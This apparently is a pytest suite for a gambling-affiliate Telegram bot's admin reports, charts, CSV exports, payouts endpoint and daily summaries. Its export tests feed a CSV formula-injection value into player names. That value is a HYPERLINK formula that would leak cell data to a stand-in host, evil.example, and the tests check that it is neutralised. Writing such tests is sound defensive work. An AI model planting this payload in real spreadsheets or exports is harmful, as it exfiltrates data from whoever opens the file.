"""The affiliate's reports and exports, end to end: syncs from the fake Goated on the product's clock, the race
job closing months, admins' commands through the webhook, the charts and files the bot uploads to the fake
Bot API, and the payouts CSV over HTTP."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import signal
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from aiohttp import web

import bot.admin.reports as report_handlers
from models.history import prune_history
from models.tables import (
    BonusClaim,
    BonusCode,
    Challenge,
    ChallengeEntry,
    MonthPlayerTotal,
    MonthSummary,
    Notification,
    TelegramUser,
    WagerSnapshot,
)
from tests import updates
from tests.fakes.goated import player
from tests.fakes.telegram import FakeTelegram
from tests.support import OWNER, Clock

ALICE = updates.telegram_user(111, "Alice", "alice", "en")
BRUNO = updates.telegram_user(222, "Bruno", "bruno", "es")
EXPORT_TOKEN = "export-token-0123456789"
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'
OCT_1 = datetime(2026, 10, 1, tzinfo=UTC)
NOV_1 = datetime(2026, 11, 1, tzinfo=UTC)
NOV_15_NOON = datetime(2026, 11, 15, 12, tzinfo=UTC)


@dataclass
class UploadingTelegram(FakeTelegram):
    """The fake Bot API, also keeping the bytes of every file the bot uploads (photos, documents)."""

    uploads: list[tuple[str, str, bytes]] = field(default_factory=list)  # (method, file name, bytes)

    async def _params(self, request: web.Request) -> dict:  # type: ignore[override]
        params = await FakeTelegram._params(request)
        if request.content_type.startswith("multipart/"):
            for value in (await request.post()).values():  # aiohttp keeps the parsed form: read it again
                if not isinstance(value, str):
                    value.file.seek(0)
                    self.uploads.append((request.match_info["method"], value.filename, value.file.read()))
        return params


@pytest.fixture
async def fake_telegram(aiohttp_server) -> UploadingTelegram:
    fake = UploadingTelegram()
    server = await aiohttp_server(fake.app())
    fake.url = str(server.make_url("")).rstrip("/")  # type: ignore[attr-defined]
    return fake


@pytest.fixture
async def app(app_with):
    harness = await app_with(export_token=EXPORT_TOKEN, report_daily_at="08:00")
    harness.clock = Clock()  # type: ignore[attr-defined]
    return harness


async def sync(harness, when: datetime, *players: dict) -> None:
    harness.clock.now = when
    harness.goated.players = list(players)
    run = await harness.sync()
    assert run.outcome == "ok", run.error


def p(uid: str, month: float, name: str | None = None) -> dict:
    return player(uid, name or uid.title(), month=month, all_time=month + 1000)


async def october_and_half_november(harness) -> None:
    """October: alpha 2,000, beta 1,000, gamma 300 (all three new). November until the 15th at noon: alpha 900,
    delta 400, epsilon 100 (delta and epsilon new); beta and gamma wager nothing."""
    await sync(harness, OCT_1 + timedelta(minutes=5), p("alpha", 100), p("beta", 200), p("gamma", 0))
    await sync(harness, datetime(2026, 10, 10, 12, tzinfo=UTC), p("alpha", 1000), p("beta", 500), p("gamma", 0))
    await sync(harness, datetime(2026, 10, 20, tzinfo=UTC), p("alpha", 1500), p("beta", 800), p("gamma", 300))
    await sync(harness, datetime(2026, 10, 31, 23, tzinfo=UTC), p("alpha", 2000), p("beta", 1000), p("gamma", 300))
    # The upstream's monthly reset; delta appears.
    await sync(harness, NOV_1 + timedelta(minutes=10), p("alpha", 50), p("beta", 0), p("gamma", 0), p("delta", 20))
    await harness.runtime.races.tick()  # finalises October's race and closes the month
    await sync(
        harness, datetime(2026, 11, 10, 12, tzinfo=UTC), p("alpha", 600), p("beta", 0), p("gamma", 0), p("delta", 200)
    )
    await sync(harness, NOV_15_NOON, p("alpha", 900), p("beta", 0), p("gamma", 0), p("delta", 400), p("epsilon", 100))


def png_size(data: bytes) -> tuple[int, int]:
    """Width and height from the PNG's IHDR chunk."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and data[12:16] == b"IHDR"
    return int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")


async def ask(harness, text: str, user: dict = OWNER) -> tuple[str, bytes]:
    """Send an admin command that answers with a chart: its caption (and any text after it) and the PNG."""
    calls, uploads = len(harness.telegram.calls), len(harness.telegram.uploads)
    await harness.send(text, user=user)
    answers = harness.telegram.calls[calls:]
    photos = [c for c in answers if c.method == "sendPhoto"]
    assert len(photos) == 1, [c.method for c in answers]
    texts = [photos[0]["caption"]] + [c["text"] for c in answers if c.method == "sendMessage"]
    (method, name, png), *_ = harness.telegram.uploads[uploads:]
    assert method == "sendPhoto" and name.endswith(".png")
    return "\n".join(texts), png


async def test_report_for_the_month_in_progress(app):
    await app.send("/start", user=OWNER)
    await october_and_half_november(app)
    text, png = await ask(app, "/report")
    assert "Report for November 2026</b> (so far, as of Nov 15, 2026, 12:00 UTC)" in text
    # 1,400 now against 1,500 at the same point of October (the 10th's figures): −6.7 %
    assert "Wagered: <b>$1,400.00</b> (-6.7% against $1,500.00 at the same point of October 2026)" in text
    assert "Active players: <b>3</b> (+1 against October 2026)" in text  # alpha, delta, epsilon vs alpha, beta
    assert "New referrals: <b>2</b>" in text  # delta and epsilon
    assert "Active in October 2026, not this month: <b>2</b>" in text  # beta and gamma
    assert "Beta ($1,000.00)" in text  # the biggest of them first
    assert "▲ Delta +$400.00 ($400.00)" in text and "▲ Epsilon +$100.00 ($100.00)" in text
    assert "▼ Beta −$500.00 ($0.00)" in text and "▼ Alpha −$100.00 ($900.00)" in text
    assert "Race prize pool: <b>$500.00</b> · $357.14 per $1,000 wagered" in text  # 500 / 1,400 × 1,000
    # The last 7 full days (8th–14th) added 730: 1,400 + 730 / 7 × 15.5 days left
    assert "Projected month end: <b>$3,016.43</b> (so far plus the average of the last 7 full days" in text
    assert png_size(png) == (1000, 800)


async def test_report_in_the_admins_language(app):
    await app.send("/start", user=OWNER)
    await app.send("/start", user=BRUNO)
    await app.send("/promote @bruno", user=OWNER)
    await october_and_half_november(app)
    text, png = await ask(app, "/report noviembre 2026", user=BRUNO)
    assert "noviembre de 2026" in text and "octubre de 2026" in text  # month names
    assert "US$\xa01.400,00" in text and "US$\xa0500,00" in text  # money as Spanish-speaking South America writes it
    assert "-6,7\xa0%" in text or "-6,7%" in text
    assert png_size(png) == (1000, 800)


async def test_report_for_a_closed_month_survives_the_pruning(app):
    await app.send("/start", user=OWNER)
    await october_and_half_november(app)
    summary = await MonthSummary.get(month="2026-10")
    assert (summary.total_wagered, summary.active_players, summary.new_referrals) == (Decimal(3300), 3, 3)
    assert len(summary.daily) == 31 and Decimal(summary.daily[9]) == Decimal(1500)  # the 10th's end
    totals = dict(await MonthPlayerTotal.filter(month="2026-10").values_list("player_id", "wagered"))
    assert {uid: Decimal(str(amount)) for uid, amount in totals.items()} == {
        "alpha": Decimal(2000),
        "beta": Decimal(1000),
        "gamma": Decimal(300),
    }
    before, png = await ask(app, "/report 2026-10")
    assert (await ask(app, "/report october 2026"))[0] == before
    assert await prune_history(datetime(2026, 11, 1, tzinfo=UTC)) > 0  # October's snapshots are gone
    assert not await WagerSnapshot.filter(at__lt=NOV_1).exists()
    after, _ = await ask(app, "/report 2026-10")
    assert before == after
    assert "Report for October 2026" in after and "Wagered: <b>$3,300.00</b>" in after
    assert "New referrals: <b>3</b>" in after and "Projected" not in after
    # Paid: 40 % + 20 % + 12 % of the default $500 pool to the three ranked players
    assert "Race prizes paid: <b>$360.00</b> · $109.09 per $1,000 wagered" in after
    assert png_size(png) == (1000, 800)


async def test_report_answers_a_bad_or_unknown_month(app):
    await app.send("/start", user=OWNER)
    assert "Usage: /report [month]" in (await app.send("/report 2026-13", user=OWNER))[-1]["text"]
    assert "No figures for 2020-01" in (await app.send("/report 2020-01", user=OWNER))[-1]["text"]
    await app.send("/start", user=ALICE)
    assert not app.telegram.sent("sendPhoto")
    not_admin = (await app.send("/report", user=ALICE))[-1]["text"]
    assert "Report" not in not_admin  # players do not reach the admins' commands


async def test_trend_after_several_months(app):
    await app.send("/start", user=OWNER)
    months = [datetime(2026, m, 1, tzinfo=UTC) for m in (7, 8, 9, 10, 11)]
    for i, start in enumerate(months):  # month i: players p0…pi each wager 100 × (i + 1)
        if i:  # the upstream's reset, then the race job closes the month before
            await sync(app, start + timedelta(hours=1), *(p(f"p{j}", 1) for j in range(i)))
            app.clock.now = start + timedelta(hours=1, minutes=30)
            await app.runtime.races.tick()
        await sync(app, start + timedelta(days=19), *(p(f"p{j}", 100 * (i + 1)) for j in range(i + 1)))
    assert await MonthSummary.all().order_by("month").values_list("month", flat=True) == [
        "2026-07",
        "2026-08",
        "2026-09",
        "2026-10",
    ]
    text, png = await ask(app, "/trend")
    assert "The last 12 months" in text
    assert "November 2026: $2,500.00 · 5 active" in text  # in progress
    assert "October 2026: $1,600.00 · 4 active" in text and "July 2026: $100.00 · 1 active" in text
    assert "June 2026: no data" in text and "December 2025: no data" in text
    assert png_size(png) == (1000, 600)


async def test_the_chart_is_drawn_off_the_event_loop(app, monkeypatch):
    """The chart is drawn in another process, and the event loop goes on turning while it is drawn."""
    await app.send("/start", user=OWNER)
    await october_and_half_november(app)
    ticks = 0
    seen: dict[str, object] = {}
    original = report_handlers.render

    async def render_and_watch(chart, locale):
        before = ticks
        drawn = await original(chart, locale)
        seen.update(pid=drawn.pid, ticks=ticks - before)
        return drawn

    async def ticker():
        nonlocal ticks
        while True:
            ticks += 1
            await asyncio.sleep(0.001)

    monkeypatch.setattr(report_handlers, "render", render_and_watch)
    ticking = asyncio.create_task(ticker())
    _, png = await ask(app, "/report")
    ticking.cancel()
    assert seen["pid"] != os.getpid()  # matplotlib's renderer holds the GIL: a thread would stall the loop
    assert seen["ticks"] >= 3  # the loop turned while it waited (a blocked loop turns 0 times)
    assert png_size(png) == (1000, 800)


async def test_a_killed_chart_worker_is_replaced(app, monkeypatch):
    await app.send("/start", user=OWNER)
    await october_and_half_november(app)
    pids: list[int] = []
    original = report_handlers.render

    async def render_and_watch(chart, locale):
        drawn = await original(chart, locale)
        pids.append(drawn.pid)
        return drawn

    monkeypatch.setattr(report_handlers, "render", render_and_watch)
    await ask(app, "/trend")
    os.kill(pids[0], signal.SIGKILL)  # out of memory, say
    _, png = await ask(app, "/report")
    assert pids[1] not in (pids[0], os.getpid()) and png_size(png) == (1000, 800)


# ---- exports ----


async def export(harness, command: str) -> tuple[str, list[list[str]], str]:
    """Send /export …; return the document's caption, its rows (header first) and its file name."""
    calls, uploads = len(harness.telegram.calls), len(harness.telegram.uploads)
    await harness.send(command, user=OWNER)
    documents = [c for c in harness.telegram.calls[calls:] if c.method == "sendDocument"]
    assert len(documents) == 1, [c.params for c in harness.telegram.calls[calls:]]
    (method, name, data), *_ = harness.telegram.uploads[uploads:]
    assert method == "sendDocument" and data.startswith("\ufeff".encode())  # UTF-8 with BOM: spreadsheets read it
    return documents[0]["caption"], list(csv.reader(io.StringIO(data.decode("utf-8-sig")))), name


async def link(harness, user: dict, name: str, request_id: int) -> None:
    await harness.send("/start", user=user)
    await harness.send(f"/verify {name}", user=user)
    await harness.press(f"review:{request_id}:approve:", user=OWNER)


async def hostile_october(harness) -> None:
    await harness.send("/start", user=OWNER)
    await sync(harness, OCT_1 + timedelta(days=2), p("alpha", 500), p("evil", 900, HOSTILE), p("zero", 0, "@admin"))
    await link(harness, ALICE, "Alpha", 1)
    harness.clock.now = NOV_1 + timedelta(minutes=5)
    await harness.runtime.races.tick()


async def test_payouts_export(app):
    await hostile_october(app)
    caption, rows, name = await export(app, "/export payouts")
    assert name == "payouts-2026-10.csv" and caption == "💸 Payouts of the October 2026 race: 2 rows"
    assert rows == [
        ["rank", "goated_name", "goated_uid", "telegram_id", "telegram_username", "wagered", "prize"],
        ["1", "'" + HOSTILE, "evil", "", "", "900.00", "200.00"],  # made inert: a spreadsheet shows it as text
        ["2", "Alpha", "alpha", "111", "alice", "500.00", "100.00"],
    ]
    assert (await export(app, "/export payouts 2026-10"))[1] == rows
    assert (await export(app, "/export payouts 1"))[1] == rows
    assert (await export(app, "/export payouts October 2026"))[1] == rows
    assert "No finished race 2026-09" in (await app.send("/export payouts 2026-09", user=OWNER))[-1]["text"]


async def test_players_export(app):
    await hostile_october(app)
    caption, rows, name = await export(app, "/export players")
    assert caption == "👥 Referred players: 3 rows" and name.startswith("players-") and name.endswith(".csv")
    assert rows[0] == [
        "goated_uid",
        "goated_name",
        "wagered_today",
        "wagered_week",
        "wagered_month",
        "wagered_all_time",
        "first_seen_at",
        "last_changed_at",
        "telegram_id",
        "telegram_username",
    ]
    seen = "2026-10-03T00:00:00+00:00"
    assert rows[1:] == [
        ["alpha", "Alpha", "0.00", "0.00", "500.00", "1500.00", seen, seen, "111", "alice"],
        ["evil", "'" + HOSTILE, "0.00", "0.00", "900.00", "1900.00", seen, seen, "", ""],
        ["zero", "'@admin", "0.00", "0.00", "0.00", "1000.00", seen, seen, "", ""],
    ]


async def test_claims_export(app):
    await hostile_october(app)
    await link(app, BRUNO, HOSTILE, 2)
    alice, bruno = await TelegramUser.get(id=ALICE["id"]), await TelegramUser.get(id=BRUNO["id"])
    code = await BonusCode.create(
        code="+SUM(1)", reward="$5 free", max_claims=5, expires_at=NOV_1 + timedelta(days=9), created_by=OWNER["id"]
    )
    claim = await BonusClaim.create(bonus=code, user=alice, player_id="alpha")
    challenge = await Challenge.create(
        game="Plinko",
        multiplier=Decimal("1000"),
        min_bet=Decimal("0.20"),
        prize=Decimal("50"),
        max_winners=1,
        deadline=NOV_1 + timedelta(days=9),
        description="Hit 1000x",
        created_by=OWNER["id"],
    )
    entry = await ChallengeEntry.create(
        challenge=challenge, user=bruno, player_id="evil", bet_url="https://goated.com/bet/42"
    )
    caption, rows, _ = await export(app, "/export claims")
    assert caption == "🎁 Bonus code claims and challenge entries: 2 rows"
    assert rows == [
        ["type", "at", "telegram_id", "telegram_username", "goated_uid", "goated_name", "item", "reward", "status",
         "detail"],
        ["bonus_claim", claim.claimed_at.isoformat(timespec="seconds"), "111", "alice", "alpha", "Alpha", "'+SUM(1)",
         "$5 free", "claimed", ""],
        ["challenge_entry", entry.created_at.isoformat(timespec="seconds"), "222", "bruno", "evil", "'" + HOSTILE,
         f"#{challenge.id} Plinko x1000", "50.00", "pending", "https://goated.com/bet/42"],
    ]  # fmt: skip


async def test_audit_export(app):
    await hostile_october(app)
    await export(app, "/export players")
    caption, rows, name = await export(app, "/export audit 7")
    assert caption.startswith("🧾 Admin actions of the last 7 days: ")
    assert rows[0] == ["at", "actor_id", "actor", "action", "target", "before", "after"]
    actions = [(row[1], row[2], row[3]) for row in rows[1:]]
    assert ("999", "olga", "verification.approved") in actions
    assert ("999", "olga", "export") in actions  # who took the players out, and when
    assert "Usage: /export audit" in (await app.send("/export audit 0", user=OWNER))[-1]["text"]
    assert "Usage: /export payouts" in (await app.send("/export", user=OWNER))[-1]["text"]


async def test_big_exports_are_compressed(app, monkeypatch):
    import gzip

    import bot.admin.exports as export_handlers

    monkeypatch.setattr(export_handlers, "GZIP_ABOVE", 100)
    await hostile_october(app)
    uploads = len(app.telegram.uploads)
    await app.send("/export players", user=OWNER)
    (_, name, data), *_ = app.telegram.uploads[uploads:]
    assert name.endswith(".csv.gz")
    assert gzip.decompress(data).decode("utf-8-sig").startswith("goated_uid,goated_name")


async def test_payouts_over_http_need_the_export_token(app, app_with):
    await hostile_october(app)
    url = "/api/races/1/payouts.csv"
    assert (await app.client.get(url)).status == 401
    assert (await app.client.get(url, headers={"Authorization": "Bearer wrong-token-0123456789"})).status == 401
    assert (await app.client.get(url, headers={"Authorization": EXPORT_TOKEN})).status == 401
    response = await app.client.get(url, headers={"Authorization": f"Bearer {EXPORT_TOKEN}"})
    assert response.status == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    body = await response.read()
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert body.startswith("\ufeff".encode()) and rows[1][:3] == ["1", "'" + HOSTILE, "evil"] and len(rows) == 3
    missing = await app.client.get("/api/races/99/payouts.csv", headers={"Authorization": f"Bearer {EXPORT_TOKEN}"})
    assert missing.status == 404
    without = await app_with()  # EXPORT_TOKEN unset: there is no such address
    assert (await without.client.get(url, headers={"Authorization": f"Bearer {EXPORT_TOKEN}"})).status == 404


# ---- the owners' daily summary ----


async def test_daily_summary_once_a_day_at_the_set_time(app):
    await app.send("/start", user=OWNER)
    await october_and_half_november(app)
    app.telegram.calls.clear()
    app.clock.now = datetime(2026, 11, 16, 7, 59, tzinfo=UTC)
    await app.runtime.races.tick()
    assert not app.telegram.sent()  # not yet
    app.clock.now = datetime(2026, 11, 16, 8, 0, 30, tzinfo=UTC)
    await app.runtime.races.tick()
    app.clock.now = datetime(2026, 11, 16, 8, 1, tzinfo=UTC)
    await app.runtime.races.tick()  # a second round (or another replica) sends nothing more
    sent = app.telegram.sent()
    assert len(sent) == 1 and sent[0]["chat_id"] == str(OWNER["id"])
    assert "Daily summary" in sent[0]["text"] and "Nov 16, 2026" in sent[0]["text"]
    assert "Yesterday: <b>$600.00</b> wagered" in sent[0]["text"]  # the 15th: 800 → 1,400
    assert "Wagered: <b>$1,400.00</b>" in sent[0]["text"] and "More: /report" in sent[0]["text"]
    assert await Notification.filter(kind="daily_report").count() == 1
